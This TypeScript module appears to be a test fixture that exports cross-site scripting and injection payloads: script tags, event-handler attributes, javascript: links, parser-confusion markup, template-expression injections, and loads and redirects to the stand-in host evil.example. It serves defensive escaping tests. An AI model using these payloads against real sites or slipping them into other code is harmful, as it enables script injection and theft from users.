/** A text that calls `boom()` or sends a request to evil.example if any place treats it as more than text. */
export interface Payload {
  readonly family: 'markup' | 'attribute' | 'address' | 'parser' | 'template' | 'message';
  readonly text: string;
}

const MARKUP = [
  '<script>boom()</script>',
  '<img src=x onerror=boom()>',
  '<svg onload=boom()><script>boom()</script></svg>',
  '<iframe srcdoc="<script>parent.boom()</script>"></iframe>',
  '<object data="https://evil.example/o"></object><embed src="https://evil.example/e">',
  '<link rel=stylesheet href=https://evil.example/x.css><style>@import "https://evil.example/y.css"</style>',
  '<base href="https://evil.example/"><meta http-equiv=refresh content="0; url=https://evil.example/">',
  '<form action="https://evil.example/"><button formaction="javascript:boom()">Send</button></form>',
  '<details open ontoggle=boom()><summary>x</summary></details>',
  '<portico-copy onclick=boom()></portico-copy><portico-live-error></portico-live-error>',
];

const ATTRIBUTES = [
  '"><img src=x onerror=boom()>',
  "' autofocus onfocus='boom()' x='",
  '" onmouseover="boom()" style="position:fixed;inset:0',
  '`"\'><svg/onload=boom()>',
];

const ADDRESSES = [
  '[a](javascript:boom())',
  '<javascript:boom()>',
  'javascript:boom()',
  'data:text/html,<script>boom()</script>',
  'https://evil.example/"onmouseover="boom()',
  '![a](https://evil.example/pixel.png)',
];

/** Markup that different parsers read differently. */
const PARSERS = [
  '<noscript><p title="</noscript><img src=x onerror=boom()>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=boom()&gt;">',
  '<svg><style><img src=x onerror=boom()></style></svg>',
  '</title></template></pre></code><img src=x onerror=boom()>',
  '<!--><img src=x onerror=boom()>-->',
  '<a\u0000href="javascript:boom()">x</a>\u2028<img/src/onerror=boom()>',
];

const TEMPLATES = ['{{constructor.constructor("boom()")()}}', '${boom()}', '<%= boom() %>', '{boom()}'];

/** Texts that the overlays of development servers have treated as links or markup. */
const MESSAGES = [
  `https://x"oncontentvisibilityautostatechange='boom()'style='display:block;content-visibility:auto'x=`,
  'a https://evil.example/"onanimationstart="boom()"style="animation-name:x b',
  '[x](https://evil.example/"onmouseover="boom())',
  '`<img src=x onerror=boom()>`',
  'https://evil.example/<img/src=x/onerror=boom()>.',
];

/** Payloads of every family; tests put each into every place. */
export const PAYLOADS: readonly Payload[] = [
  ...MARKUP.map((text): Payload => ({ family: 'markup', text })),
  ...ATTRIBUTES.map((text): Payload => ({ family: 'attribute', text })),
  ...ADDRESSES.map((text): Payload => ({ family: 'address', text })),
  ...PARSERS.map((text): Payload => ({ family: 'parser', text })),
  ...TEMPLATES.map((text): Payload => ({ family: 'template', text })),
  ...MESSAGES.map((text): Payload => ({ family: 'message', text })),
];
